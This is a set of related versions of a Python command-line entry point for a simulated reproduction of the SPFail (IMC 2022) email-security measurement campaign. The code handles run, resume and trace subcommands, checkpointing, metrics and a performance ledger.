def _obs_regress(args: argparse.Namespace) -> int:
    from .obs.ledger import (
        LedgerError,
        compare_records,
        filter_records,
        load_slice,
    )

    try:
        baseline = filter_records(
            load_slice(args.baseline), config_hash=args.config_hash, last=args.last
        )
        candidate = filter_records(
            load_slice(args.candidate), config_hash=args.config_hash, last=args.last
        )
        result = compare_records(
            baseline,
            candidate,
            metric=args.metric,
            threshold=args.threshold,
            noise_floor=args.noise,
        )
    except LedgerError as error:
        print(f"obs regress failed: {error}", file=sys.stderr)
        return 2
    if args.json:
        _write_json_payload(args.json, result.to_dict(), label="verdict JSON")
    print(result.render())
    return 1 if result.regressed else 0


def _obs_record(args: argparse.Namespace) -> int:
    from .obs.ledger import LedgerError, retro_record

    if args.perf and not args.trace:
        print("obs record: --perf requires --trace", file=sys.stderr)
        return 2
    try:
        record, path = retro_record(
            args.run_dir,
            ledger_path=args.ledger,
            metrics_path=args.metrics,
            trace_path=args.trace,
            perf_dir=args.perf,
            noise=args.noise,
        )
    except LedgerError as error:
        print(f"obs record failed: {error}", file=sys.stderr)
        return 2
    print(
        f"ledger: record for config {record['config_hash'][:12]} "
        f"appended to {path}"
    )
    return 0


def _trace_diff(args: argparse.Namespace) -> int:
    from .obs.diff import diff_files
    from .obs.records import load_jsonl

    divergence = diff_files(args.left, args.right, context=args.context)
    if divergence is None:
        count = len(load_jsonl(args.left))
        print(f"traces identical ({count:,} events)")
        return 0
    print(divergence.render(args.left, args.right))
    return 1


# -- campaign run ----------------------------------------------------------------


def _write_trace(sim: Simulation, path: str) -> int:
    """Write the canonical JSONL trace; returns the event count."""
    assert sim.observation is not None
    return sim.observation.tracer.write_jsonl(path)


def _write_metrics(sim: Simulation, path: str) -> None:
    assert sim.observation is not None and sim.config is not None
    payload = {
        "scale": sim.config.resolved_population().scale,
        "seed": sim.config.seed,
        "workers": sim.config.workers,
        "executor": type(sim.campaign.executor).__name__,
        "metrics": sim.observation.metrics.to_dict(),
        "histogram_percentiles": sim.observation.metrics.percentiles(),
        "executor_stages": sim.campaign.executor.metrics.to_dict(),
    }
    with open(path, "w") as handle:
        json.dump(payload, handle, indent=2, sort_keys=True)
        handle.write("\n")


def _make_observation(args: argparse.Namespace, *, trace: bool) -> Optional[Observation]:
    perf_dir = getattr(args, "perf", None)
    observation = None
    if trace or args.metrics_out or args.log_level or perf_dir:
        observation = Observation(trace=trace)
    if perf_dir:
        from .obs.perf import PerfRecorder

        # Span wall-timing rides the tracer's sink hooks, so callers
        # force trace=True whenever --perf is given.
        observation.attach_perf(PerfRecorder(perf_dir))
    if args.log_level:
        configure_logging(args.log_level)
        if observation is not None and observation.tracer.enabled:
            attach_trace_handler(observation.tracer)
    return observation


def _finalize_perf(observation: Optional[Observation]) -> None:
    """Merge perf part streams and print a one-line summary."""
    if observation is None or observation.perf is None:
        return
    summary = observation.perf.finalize()
    print(
        f"perf: {summary['records']:,} span records, "
        f"{summary['samples']:,} samples from {len(summary['roles'])} "
        f"role(s) merged into {summary['directory']}"
    )


def _append_ledger(
    sim: Simulation,
    args: argparse.Namespace,
    *,
    store,
    wall_seconds: float,
    kind: str,
) -> None:
    """Append one performance-ledger record for a completed run.

    Targets: the RunStore run directory's ``ledger.jsonl`` (when the run
    was checkpointed) and the shared ``--ledger`` file (when given).
    Appending happens strictly *after* every deterministic artifact and
    the perf merge are on disk — the ledger reads the run, never the
    other way around, so trace/CSV/report bytes are identical with the
    ledger on or off.
    """
    paths = []
    if store is not None and sim.config is not None:
        paths.append(store.ledger_path(sim.config))
    shared = getattr(args, "ledger", None)
    if shared:
        paths.append(shared)
    if not paths:
        return
    from .obs.ledger import append_record, build_record

    record = build_record(
        sim,
        kind=kind,
        wall_seconds=wall_seconds,
        perf_dir=getattr(args, "perf", None),
    )
    for path in paths:
        append_record(path, record)
    print(f"ledger: record appended to {', '.join(paths)}")


def _emit_outputs(sim: Simulation, args: argparse.Namespace) -> int:
    """Everything after a (completed) campaign: artifacts + observability."""
    if args.report:
        from .analysis.report import generate_report

        text = generate_report(sim)
        with open(args.report, "w") as handle:
            handle.write(text)
        print(f"report written to {args.report}")
    if args.export_csv:
        from .analysis.export import export_all

        written = export_all(sim, args.export_csv)
        print(f"{len(written)} CSV files written to {args.export_csv}")

    if not (args.report or args.export_csv) or args.artifact:
        registry = _artifact_registry(sim)
        names = args.artifact or list(ARTIFACT_NAMES)
        for name in names:
            print()
            print(registry[name]())

    if args.trace:
        count = _write_trace(sim, args.trace)
        print(f"trace: {count:,} events written to {args.trace}")
    if args.metrics_out:
        _write_metrics(sim, args.metrics_out)
        print(f"metrics written to {args.metrics_out}")

    total = sim.campaign.executor.metrics.total()
    print()
    print(
        f"probe execution: {total.probes_attempted:,} probes "
        f"({total.retried} retried, {total.refused} refused) in "
        f"{total.wall_seconds:.2f}s wall / {total.sim_seconds:,.0f}s simulated "
        f"({total.probes_per_second:,.0f} probes/s)"
    )
    return 0


def _run(args: argparse.Namespace, *, legacy: bool = False) -> int:
    from .errors import CampaignAborted

    if args.list:
        print("\n".join(ARTIFACT_NAMES))
        return 0
    if legacy:
        print(
            "note: running via top-level flags is deprecated; "
            "use `python -m repro run ...`",
            file=sys.stderr,
        )

    perf_dir = getattr(args, "perf", None)
    observation = _make_observation(
        args, trace=bool(args.trace) or bool(perf_dir)
    )

    from .api import RunConfig

    config = RunConfig(
        scale=args.scale,
        seed=args.seed,
        executor=args.executor,
        workers=args.workers,
        trace=bool(args.trace) or bool(perf_dir),
        world=getattr(args, "world", "lazy"),
        perf=perf_dir,
    )
    print(f"Building the synthetic Internet (scale={args.scale}, seed={args.seed})...")
    sim = Simulation.build(config=config, observation=observation)
    if observation is not None and observation.perf is not None:
        from .obs.perf import simulation_counters

        observation.perf.start_sampler(lambda: simulation_counters(sim))

    store = None
    store_dir = getattr(args, "store", None)
    if store_dir:
        from .store import RunStore

        store = RunStore(store_dir)
        store.abort_after_round = getattr(args, "abort_after_round", None)
    elif getattr(args, "abort_after_round", None) is not None:
        print("--abort-after-round requires --store", file=sys.stderr)
        return 2

    if args.progress:
        from .obs.progress import ProgressReporter

        reporter = ProgressReporter()
        if observation is not None:
            reporter.perf = observation.perf
        sim.campaign.executor.progress = reporter
    executor_name = type(sim.campaign.executor).__name__
    print(
        f"  {len(sim.population):,} domains / {sim.fleet.total_ip_count():,} addresses; "
        f"running the four-month campaign ({executor_name}, "
        f"workers={args.workers})..."
    )
    from time import perf_counter

    try:
        started = perf_counter()
        try:
            sim.run(store=store)
        except CampaignAborted as abort:
            print(f"run aborted: {abort}")
            return 0
        run_wall = perf_counter() - started
        code = _emit_outputs(sim, args)
    finally:
        # After sim.run the executor has shut down (its finally), so
        # every worker's part streams are on disk and safe to merge.
        _finalize_perf(observation)
    # The ledger record is built after the perf merge so a profiled
    # run's record can embed the per-stage wall attribution.
    _append_ledger(sim, args, store=store, wall_seconds=run_wall, kind="run")
    return code


def _resume(args: argparse.Namespace) -> int:
    from .api import RunConfig
    from .store import RunStore, StoreError

    store = RunStore(args.store)
    expected = None
    if hasattr(args, "resume_scale") or hasattr(args, "resume_seed"):
        expected = RunConfig(
            scale=getattr(args, "resume_scale", 0.01),
            seed=getattr(args, "resume_seed", 20211011),
        )
    try:
        state = store.load_latest(
            config_hash=expected.content_hash() if expected is not None else None
        )
    except StoreError as error:
        print(f"resume failed: {error}", file=sys.stderr)
        return 2

    perf_dir = getattr(args, "perf", None)
    trace = state.config.trace or bool(args.trace) or bool(perf_dir)
    if args.trace and not state.config.trace:
        print(
            "warning: the stored run was not traced; the resumed trace "
            "will miss the checkpointed prefix",
            file=sys.stderr,
        )
    observation = _make_observation(args, trace=trace)

    overrides = {}
    if hasattr(args, "resume_executor"):
        overrides["executor"] = args.resume_executor
    if hasattr(args, "resume_workers"):
        overrides["workers"] = args.resume_workers
    # Whether the resumed leg is profiled is always this invocation's
    # choice — never inherited from the checkpointed config.
    sim = Simulation.resume(
        state, observation=observation, perf=perf_dir, **overrides
    )
    if observation is not None and observation.perf is not None:
        from .obs.perf import simulation_counters

        observation.perf.start_sampler(lambda: simulation_counters(sim))
    provenance = sim.provenance
    print(
        f"Resuming {state.run_id} (config {provenance.config_hash[:12]}) from "
        f"checkpoint '{provenance.checkpoint_kind}' with "
        f"{provenance.rounds_completed} rounds completed..."
    )

    if args.progress:
        from .obs.progress import ProgressReporter

        reporter = ProgressReporter()
        if observation is not None:
            reporter.perf = observation.perf
        sim.campaign.executor.progress = reporter
    from time import perf_counter

    try:
        started = perf_counter()
        sim.run(store=store)
        run_wall = perf_counter() - started
        code = _emit_outputs(sim, args)
    finally:
        _finalize_perf(observation)
    _append_ledger(sim, args, store=store, wall_seconds=run_wall, kind="resume")
    return code


def main(argv=None) -> int:
    parser = _build_parser()
    args = parser.parse_args(argv)
    command = getattr(args, "command", None)
    if command == "trace":
        if args.trace_command == "summary":
            return _trace_summary(args)
        if args.trace_command == "profile":
            return _trace_profile(args)
        return _trace_diff(args)
    if command == "obs":
        if args.obs_command == "history":
            return _obs_history(args)
        if args.obs_command == "regress":
            return _obs_regress(args)
        return _obs_record(args)
    if command == "resume":
        return _resume(args)
    return _run(args, legacy=command is None)


if __name__ == "__main__":
    sys.exit(main())
