"""Command-line entry point: run the SPFail reproduction.

Usage::

    python -m repro                       # full campaign at scale 0.01
    python -m repro --scale 0.02          # bigger synthetic Internet
    python -m repro --artifact table4     # one table/figure only
    python -m repro --list                # available artifacts
    python -m repro --trace t.jsonl --metrics-out m.json   # observability
"""

from __future__ import annotations

import argparse
import json
import sys
from typing import Callable, Dict

from . import analysis
from .obs import Observation, attach_trace_handler, configure_logging
from .obs.logbridge import LEVELS
from .simulation import Simulation


def _artifact_registry(sim: Simulation) -> Dict[str, Callable[[], str]]:
    result = sim.run()
    return {
        "table1": lambda: analysis.render_table1(analysis.build_table1(sim.population)),
        "table2": lambda: analysis.render_table2(analysis.build_table2(sim.population)),
        "table3": lambda: analysis.render_table3(
            analysis.build_table3(sim.population, result.initial)
        ),
        "table4": lambda: analysis.render_table4(
            analysis.build_table4(sim.population, result.initial)
        ),
        "table5": lambda: analysis.render_table5(analysis.build_table5(sim)),
        "table6": lambda: analysis.render_table6(analysis.build_table6()),
        "table7": lambda: analysis.render_table7(analysis.build_table7(result.initial)),
        "figure2": lambda: analysis.render_figure2(analysis.build_figure2(sim)),
        "figure3": lambda: analysis.render_figure3(analysis.build_figure3(sim)),
        "figure4": lambda: analysis.render_figure4(analysis.build_figure4(sim)),
        "figure5": lambda: analysis.render_figure5(analysis.build_figure5(sim)),
        "figure6": lambda: analysis.render_figure6(analysis.build_figure6(sim)),
        "figure7": lambda: analysis.render_figure7(analysis.build_figure7(sim)),
        "figure8": lambda: analysis.render_figure8(analysis.build_figure8(sim)),
        "notification": lambda: analysis.render_notification_funnel(
            analysis.build_notification_funnel(sim)
        ),
    }


ARTIFACT_NAMES = (
    "table1", "table2", "table3", "table4", "table5", "table6", "table7",
    "figure2", "figure3", "figure4", "figure5", "figure6", "figure7",
    "figure8", "notification",
)


def _write_trace(sim: Simulation, path: str) -> int:
    """Write the canonical JSONL trace; returns the event count."""
    assert sim.observation is not None
    events = sim.observation.tracer.canonical_events()
    sim.observation.tracer.write_jsonl(path)
    return len(events)


def _write_metrics(sim: Simulation, path: str, args: argparse.Namespace) -> None:
    assert sim.observation is not None
    payload = {
        "scale": args.scale,
        "seed": args.seed,
        "workers": args.workers,
        "executor": type(sim.campaign.executor).__name__,
        "metrics": sim.observation.metrics.to_dict(),
        "executor_stages": sim.campaign.executor.metrics.to_dict(),
    }
    with open(path, "w") as handle:
        json.dump(payload, handle, indent=2, sort_keys=True)
        handle.write("\n")


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(
        prog="python -m repro",
        description="Run the SPFail (IMC 2022) reproduction campaign.",
    )
    parser.add_argument(
        "--scale", type=float, default=0.01,
        help="population scale relative to the paper's 441K domains (default 0.01)",
    )
    parser.add_argument("--seed", type=int, default=20211011, help="simulation seed")
    parser.add_argument(
        "--workers", type=int, default=1, metavar="N",
        help="probe-execution worker count (N>1 selects the sharded executor)",
    )
    parser.add_argument(
        "--executor", choices=("serial", "sharded"), default=None,
        help="probe-execution strategy (default: derived from --workers); "
        "results are byte-identical across strategies for the same seed",
    )
    parser.add_argument(
        "--artifact", choices=ARTIFACT_NAMES, action="append",
        help="regenerate only the named table/figure (repeatable)",
    )
    parser.add_argument(
        "--list", action="store_true", help="list available artifacts and exit"
    )
    parser.add_argument(
        "--report", metavar="FILE",
        help="write the full paper-vs-measured markdown report to FILE",
    )
    parser.add_argument(
        "--export-csv", metavar="DIR",
        help="write machine-readable CSVs for the key series to DIR",
    )
    parser.add_argument(
        "--trace", metavar="FILE",
        help="write a canonically ordered virtual-time trace (JSONL) to FILE; "
        "byte-identical across executor strategies for the same seed",
    )
    parser.add_argument(
        "--metrics-out", metavar="FILE",
        help="write the observability metrics registry (JSON) to FILE",
    )
    parser.add_argument(
        "--log-level", choices=sorted(LEVELS), default=None,
        help="enable stdlib logging for the 'repro' logger at this level",
    )
    args = parser.parse_args(argv)

    if args.list:
        print("\n".join(ARTIFACT_NAMES))
        return 0

    observation = None
    if args.trace or args.metrics_out or args.log_level:
        observation = Observation(trace=bool(args.trace))
    if args.log_level:
        configure_logging(args.log_level)
        if observation is not None and observation.tracer.enabled:
            attach_trace_handler(observation.tracer)

    print(f"Building the synthetic Internet (scale={args.scale}, seed={args.seed})...")
    sim = Simulation.build(
        scale=args.scale, seed=args.seed,
        executor=args.executor, workers=args.workers,
        observation=observation,
    )
    executor_name = type(sim.campaign.executor).__name__
    print(
        f"  {len(sim.population):,} domains / {len(sim.fleet.all_ips):,} addresses; "
        f"running the four-month campaign ({executor_name}, "
        f"workers={args.workers})..."
    )
    if args.report:
        from .analysis.report import generate_report

        text = generate_report(sim)
        with open(args.report, "w") as handle:
            handle.write(text)
        print(f"report written to {args.report}")
    if args.export_csv:
        from .analysis.export import export_all

        written = export_all(sim, args.export_csv)
        print(f"{len(written)} CSV files written to {args.export_csv}")

    if not (args.report or args.export_csv) or args.artifact:
        registry = _artifact_registry(sim)
        names = args.artifact or list(ARTIFACT_NAMES)
        for name in names:
            print()
            print(registry[name]())

    # The campaign runs on every path above, so the execution summary —
    # and any requested observability outputs — are always emitted.
    sim.run()
    if args.trace:
        count = _write_trace(sim, args.trace)
        print(f"trace: {count:,} events written to {args.trace}")
    if args.metrics_out:
        _write_metrics(sim, args.metrics_out, args)
        print(f"metrics written to {args.metrics_out}")

    total = sim.campaign.executor.metrics.total()
    print()
    print(
        f"probe execution: {total.probes_attempted:,} probes "
        f"({total.retried} retried, {total.refused} refused) in "
        f"{total.wall_seconds:.2f}s wall / {total.sim_seconds:,.0f}s simulated "
        f"({total.probes_per_second:,.0f} probes/s)"
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
