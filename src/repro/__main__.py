"""Command-line entry point: run the SPFail reproduction.

Usage::

    python -m repro                       # full campaign at scale 0.01
    python -m repro --scale 0.02          # bigger synthetic Internet
    python -m repro --artifact table4     # one table/figure only
    python -m repro --list                # available artifacts
    python -m repro --trace t.jsonl --metrics-out m.json   # observability
    python -m repro --progress            # live stage/throughput/ETA lines
    python -m repro trace summary t.jsonl # analyze a captured trace
    python -m repro trace diff a.jsonl b.jsonl   # pinpoint first divergence

The parser is structured around subcommands (``trace summary``,
``trace diff``), but the default command is still the campaign run and
every run flag keeps working at the top level unchanged.
"""

from __future__ import annotations

import argparse
import json
import sys
from typing import Callable, Dict

from . import analysis
from .obs import Observation, attach_trace_handler, configure_logging
from .obs.logbridge import LEVELS
from .simulation import Simulation


def _artifact_registry(sim: Simulation) -> Dict[str, Callable[[], str]]:
    result = sim.run()
    return {
        "table1": lambda: analysis.render_table1(analysis.build_table1(sim.population)),
        "table2": lambda: analysis.render_table2(analysis.build_table2(sim.population)),
        "table3": lambda: analysis.render_table3(
            analysis.build_table3(sim.population, result.initial)
        ),
        "table4": lambda: analysis.render_table4(
            analysis.build_table4(sim.population, result.initial)
        ),
        "table5": lambda: analysis.render_table5(analysis.build_table5(sim)),
        "table6": lambda: analysis.render_table6(analysis.build_table6()),
        "table7": lambda: analysis.render_table7(analysis.build_table7(result.initial)),
        "figure2": lambda: analysis.render_figure2(analysis.build_figure2(sim)),
        "figure3": lambda: analysis.render_figure3(analysis.build_figure3(sim)),
        "figure4": lambda: analysis.render_figure4(analysis.build_figure4(sim)),
        "figure5": lambda: analysis.render_figure5(analysis.build_figure5(sim)),
        "figure6": lambda: analysis.render_figure6(analysis.build_figure6(sim)),
        "figure7": lambda: analysis.render_figure7(analysis.build_figure7(sim)),
        "figure8": lambda: analysis.render_figure8(analysis.build_figure8(sim)),
        "notification": lambda: analysis.render_notification_funnel(
            analysis.build_notification_funnel(sim)
        ),
    }


ARTIFACT_NAMES = (
    "table1", "table2", "table3", "table4", "table5", "table6", "table7",
    "figure2", "figure3", "figure4", "figure5", "figure6", "figure7",
    "figure8", "notification",
)


# -- parser ---------------------------------------------------------------------


def _add_run_flags(parser: argparse.ArgumentParser) -> None:
    """The campaign-run flags, all at the top level (the default command)."""
    parser.add_argument(
        "--scale", type=float, default=0.01,
        help="population scale relative to the paper's 441K domains (default 0.01)",
    )
    parser.add_argument("--seed", type=int, default=20211011, help="simulation seed")
    parser.add_argument(
        "--workers", type=int, default=1, metavar="N",
        help="probe-execution worker count (N>1 selects the sharded executor; "
        "with --executor process, the worker-process/shard count)",
    )
    parser.add_argument(
        "--executor", choices=("serial", "sharded", "process"), default=None,
        help="probe-execution strategy (default: derived from --workers); "
        "'process' escapes the GIL by probing shard-local world replicas "
        "in worker processes; results are byte-identical across strategies "
        "for the same seed",
    )
    parser.add_argument(
        "--artifact", choices=ARTIFACT_NAMES, action="append",
        help="regenerate only the named table/figure (repeatable)",
    )
    parser.add_argument(
        "--list", action="store_true", help="list available artifacts and exit"
    )
    parser.add_argument(
        "--report", metavar="FILE",
        help="write the full paper-vs-measured markdown report to FILE",
    )
    parser.add_argument(
        "--export-csv", metavar="DIR",
        help="write machine-readable CSVs for the key series to DIR",
    )
    parser.add_argument(
        "--trace", metavar="FILE",
        help="write a canonically ordered virtual-time trace (JSONL) to FILE; "
        "byte-identical across executor strategies for the same seed",
    )
    parser.add_argument(
        "--metrics-out", metavar="FILE",
        help="write the observability metrics registry (JSON) to FILE",
    )
    parser.add_argument(
        "--log-level", choices=sorted(LEVELS), default=None,
        help="enable stdlib logging for the 'repro' logger at this level",
    )
    parser.add_argument(
        "--progress", action="store_true",
        help="render live stage progress (tasks, probes/s, ETA) to stderr; "
        "never alters trace, report, or CSV output",
    )


def _build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="python -m repro",
        description="Run the SPFail (IMC 2022) reproduction campaign.",
    )
    _add_run_flags(parser)

    sub = parser.add_subparsers(dest="command", metavar="{trace}")
    trace = sub.add_parser(
        "trace", help="analyze or diff traces produced by --trace"
    )
    trace_sub = trace.add_subparsers(dest="trace_command", required=True)

    summary = trace_sub.add_parser(
        "summary",
        help="stage/span/critical-path summary of one trace (markdown)",
    )
    summary.add_argument("file", help="canonical JSONL trace file")
    summary.add_argument(
        "--out", metavar="FILE", default=None,
        help="write the markdown summary to FILE instead of stdout",
    )
    summary.add_argument(
        "--folded", metavar="FILE", default=None,
        help="also write folded-stack lines (flamegraph input) to FILE",
    )
    summary.add_argument(
        "--top", type=int, default=20, metavar="N",
        help="event names listed in the counts table (default 20)",
    )

    diff = trace_sub.add_parser(
        "diff",
        help="compare two traces; pinpoint the first divergent event",
    )
    diff.add_argument("left", help="baseline trace (JSONL)")
    diff.add_argument("right", help="candidate trace (JSONL)")
    diff.add_argument(
        "--context", type=int, default=3, metavar="N",
        help="shared events shown before the divergence (default 3)",
    )
    return parser


# -- trace subcommands -----------------------------------------------------------


def _trace_summary(args: argparse.Namespace) -> int:
    from .obs.analyze import TraceAnalysis

    analysis_ = TraceAnalysis.from_file(args.file)
    text = analysis_.render_markdown(top_events=args.top)
    if args.out:
        with open(args.out, "w") as handle:
            handle.write(text)
        print(f"summary written to {args.out}")
    else:
        print(text)
    if args.folded:
        folded = analysis_.folded_stacks()
        with open(args.folded, "w") as handle:
            if folded:
                handle.write(folded + "\n")
        print(f"folded stacks written to {args.folded}", file=sys.stderr)
    return 0


def _trace_diff(args: argparse.Namespace) -> int:
    from .obs.diff import diff_files
    from .obs.records import load_jsonl

    divergence = diff_files(args.left, args.right, context=args.context)
    if divergence is None:
        count = len(load_jsonl(args.left))
        print(f"traces identical ({count:,} events)")
        return 0
    print(divergence.render(args.left, args.right))
    return 1


# -- campaign run ----------------------------------------------------------------


def _write_trace(sim: Simulation, path: str) -> int:
    """Write the canonical JSONL trace; returns the event count."""
    assert sim.observation is not None
    return sim.observation.tracer.write_jsonl(path)


def _write_metrics(sim: Simulation, path: str, args: argparse.Namespace) -> None:
    assert sim.observation is not None
    payload = {
        "scale": args.scale,
        "seed": args.seed,
        "workers": args.workers,
        "executor": type(sim.campaign.executor).__name__,
        "metrics": sim.observation.metrics.to_dict(),
        "histogram_percentiles": sim.observation.metrics.percentiles(),
        "executor_stages": sim.campaign.executor.metrics.to_dict(),
    }
    with open(path, "w") as handle:
        json.dump(payload, handle, indent=2, sort_keys=True)
        handle.write("\n")


def _run(args: argparse.Namespace) -> int:
    if args.list:
        print("\n".join(ARTIFACT_NAMES))
        return 0

    observation = None
    if args.trace or args.metrics_out or args.log_level:
        observation = Observation(trace=bool(args.trace))
    if args.log_level:
        configure_logging(args.log_level)
        if observation is not None and observation.tracer.enabled:
            attach_trace_handler(observation.tracer)

    print(f"Building the synthetic Internet (scale={args.scale}, seed={args.seed})...")
    sim = Simulation.build(
        scale=args.scale, seed=args.seed,
        executor=args.executor, workers=args.workers,
        observation=observation,
    )
    if args.progress:
        from .obs.progress import ProgressReporter

        sim.campaign.executor.progress = ProgressReporter()
    executor_name = type(sim.campaign.executor).__name__
    print(
        f"  {len(sim.population):,} domains / {len(sim.fleet.all_ips):,} addresses; "
        f"running the four-month campaign ({executor_name}, "
        f"workers={args.workers})..."
    )
    if args.report:
        from .analysis.report import generate_report

        text = generate_report(sim)
        with open(args.report, "w") as handle:
            handle.write(text)
        print(f"report written to {args.report}")
    if args.export_csv:
        from .analysis.export import export_all

        written = export_all(sim, args.export_csv)
        print(f"{len(written)} CSV files written to {args.export_csv}")

    if not (args.report or args.export_csv) or args.artifact:
        registry = _artifact_registry(sim)
        names = args.artifact or list(ARTIFACT_NAMES)
        for name in names:
            print()
            print(registry[name]())

    # The campaign runs on every path above, so the execution summary —
    # and any requested observability outputs — are always emitted.
    sim.run()
    if args.trace:
        count = _write_trace(sim, args.trace)
        print(f"trace: {count:,} events written to {args.trace}")
    if args.metrics_out:
        _write_metrics(sim, args.metrics_out, args)
        print(f"metrics written to {args.metrics_out}")

    total = sim.campaign.executor.metrics.total()
    print()
    print(
        f"probe execution: {total.probes_attempted:,} probes "
        f"({total.retried} retried, {total.refused} refused) in "
        f"{total.wall_seconds:.2f}s wall / {total.sim_seconds:,.0f}s simulated "
        f"({total.probes_per_second:,.0f} probes/s)"
    )
    return 0


def main(argv=None) -> int:
    parser = _build_parser()
    args = parser.parse_args(argv)
    if getattr(args, "command", None) == "trace":
        if args.trace_command == "summary":
            return _trace_summary(args)
        return _trace_diff(args)
    return _run(args)


if __name__ == "__main__":
    sys.exit(main())
