"""Command-line entry point: run the SPFail reproduction.

Usage::

    python -m repro run                   # full campaign at scale 0.01
    python -m repro run --scale 0.02      # bigger synthetic Internet
    python -m repro run --artifact table4 # one table/figure only
    python -m repro run --list            # available artifacts
    python -m repro run --trace t.jsonl --metrics-out m.json  # observability
    python -m repro run --store runs/     # checkpoint after every round
    python -m repro resume --store runs/  # continue an interrupted campaign
    python -m repro trace summary t.jsonl # analyze a captured trace
    python -m repro trace diff a.jsonl b.jsonl   # pinpoint first divergence

The parser is structured around the ``run`` / ``resume`` / ``trace``
subcommands.  The pre-subcommand invocation (``python -m repro --scale
0.02 ...``) keeps working with a deprecation notice: every run flag
still exists at the top level with the same defaults.
"""

from __future__ import annotations

import argparse
import json
import sys
from typing import Callable, Dict, Optional

from . import analysis
from .obs import Observation, attach_trace_handler, configure_logging
from .obs.logbridge import LEVELS
from .simulation import Simulation


def _artifact_registry(sim: Simulation) -> Dict[str, Callable[[], str]]:
    result = sim.run()
    return {
        "table1": lambda: analysis.render_table1(analysis.build_table1(sim.population)),
        "table2": lambda: analysis.render_table2(analysis.build_table2(sim.population)),
        "table3": lambda: analysis.render_table3(
            analysis.build_table3(sim.population, result.initial)
        ),
        "table4": lambda: analysis.render_table4(
            analysis.build_table4(sim.population, result.initial)
        ),
        "table5": lambda: analysis.render_table5(analysis.build_table5(sim)),
        "table6": lambda: analysis.render_table6(analysis.build_table6()),
        "table7": lambda: analysis.render_table7(analysis.build_table7(result.initial)),
        "figure2": lambda: analysis.render_figure2(analysis.build_figure2(sim)),
        "figure3": lambda: analysis.render_figure3(analysis.build_figure3(sim)),
        "figure4": lambda: analysis.render_figure4(analysis.build_figure4(sim)),
        "figure5": lambda: analysis.render_figure5(analysis.build_figure5(sim)),
        "figure6": lambda: analysis.render_figure6(analysis.build_figure6(sim)),
        "figure7": lambda: analysis.render_figure7(analysis.build_figure7(sim)),
        "figure8": lambda: analysis.render_figure8(analysis.build_figure8(sim)),
        "notification": lambda: analysis.render_notification_funnel(
            analysis.build_notification_funnel(sim)
        ),
    }


ARTIFACT_NAMES = (
    "table1", "table2", "table3", "table4", "table5", "table6", "table7",
    "figure2", "figure3", "figure4", "figure5", "figure6", "figure7",
    "figure8", "notification",
)


# -- parser ---------------------------------------------------------------------


def _add_run_flags(
    parser: argparse.ArgumentParser, *, suppress: bool = False
) -> None:
    """The campaign-run flags.

    With ``suppress=True`` (the ``run`` subcommand) every flag defaults
    to ``argparse.SUPPRESS``: the top-level parser has already installed
    the real defaults on the shared namespace, and the subcommand must
    only override what the user typed after ``run``.
    """

    def add(*names, default, **kwargs):
        parser.add_argument(
            *names, default=argparse.SUPPRESS if suppress else default, **kwargs
        )

    add(
        "--scale", type=float, default=0.01,
        help="population scale relative to the paper's 441K domains (default 0.01)",
    )
    add("--seed", type=int, default=20211011, help="simulation seed")
    add(
        "--workers", type=int, default=1, metavar="N",
        help="probe-execution worker count (N>1 selects the sharded executor; "
        "with --executor process, the worker-process/shard count)",
    )
    add(
        "--executor", choices=("serial", "sharded", "process"), default=None,
        help="probe-execution strategy (default: derived from --workers); "
        "'process' escapes the GIL by probing shard-local world replicas "
        "in worker processes; results are byte-identical across strategies "
        "for the same seed",
    )
    add(
        "--world", choices=("lazy", "eager"), default="lazy",
        help="world materialization strategy: 'lazy' builds servers on "
        "first touch (memory tracks the probed set); 'eager' pre-builds "
        "every server up front; artifacts are byte-identical either way",
    )
    add(
        "--artifact", choices=ARTIFACT_NAMES, action="append", default=None,
        help="regenerate only the named table/figure (repeatable)",
    )
    add(
        "--list", action="store_true", default=False,
        help="list available artifacts and exit",
    )
    add(
        "--report", metavar="FILE", default=None,
        help="write the full paper-vs-measured markdown report to FILE",
    )
    add(
        "--export-csv", metavar="DIR", default=None,
        help="write machine-readable CSVs for the key series to DIR",
    )
    add(
        "--trace", metavar="FILE", default=None,
        help="write a canonically ordered virtual-time trace (JSONL) to FILE; "
        "byte-identical across executor strategies for the same seed",
    )
    add(
        "--metrics-out", metavar="FILE", default=None,
        help="write the observability metrics registry (JSON) to FILE",
    )
    add(
        "--log-level", choices=sorted(LEVELS), default=None,
        help="enable stdlib logging for the 'repro' logger at this level",
    )
    add(
        "--progress", action="store_true", default=False,
        help="render live stage progress (tasks, probes/s, ETA) to stderr; "
        "never alters trace, report, or CSV output",
    )
    add(
        "--perf", metavar="DIR", default=None,
        help="record wall-clock span timings and resource samples into DIR "
        "(a sideband: trace, report, and CSV bytes are unchanged); implies "
        "tracing; inspect with `python -m repro trace profile`",
    )


def _build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="python -m repro",
        description="Run the SPFail (IMC 2022) reproduction campaign.",
    )
    # Legacy pre-subcommand interface: same flags, same defaults, plus a
    # deprecation notice at runtime.  These defaults also seed the shared
    # namespace the subcommands override selectively.
    _add_run_flags(parser)

    sub = parser.add_subparsers(dest="command", metavar="{run,resume,trace}")

    run = sub.add_parser(
        "run", help="run the campaign (optionally checkpointing into a store)"
    )
    _add_run_flags(run, suppress=True)
    run.add_argument(
        "--store", metavar="DIR", default=argparse.SUPPRESS,
        help="checkpoint the run into this store directory after the initial "
        "sweep and after every completed round (resume with "
        "`python -m repro resume --store DIR`)",
    )
    run.add_argument(
        "--abort-after-round", type=int, metavar="N", default=argparse.SUPPRESS,
        help="fault injection: abort the run right after round N's checkpoint "
        "is persisted (requires --store); used by the interrupt-and-resume "
        "CI smoke job and the resume tests",
    )

    resume = sub.add_parser(
        "resume", help="continue a checkpointed campaign from its store"
    )
    resume.add_argument(
        "--store", metavar="DIR", required=True,
        help="store directory previously populated by `run --store`",
    )
    resume.add_argument(
        "--scale", type=float, dest="resume_scale", default=argparse.SUPPRESS,
        help="expected population scale; resume refuses (with the stored "
        "hashes listed) unless a stored run's config hash matches",
    )
    resume.add_argument(
        "--seed", type=int, dest="resume_seed", default=argparse.SUPPRESS,
        help="expected simulation seed (see --scale)",
    )
    resume.add_argument(
        "--workers", type=int, dest="resume_workers", metavar="N",
        default=argparse.SUPPRESS,
        help="override the stored worker count (results are identical "
        "across strategies, so this is always safe)",
    )
    resume.add_argument(
        "--executor", choices=("serial", "sharded", "process"),
        dest="resume_executor", default=argparse.SUPPRESS,
        help="override the stored probe-execution strategy (see --workers)",
    )
    _add_output_flags(resume)

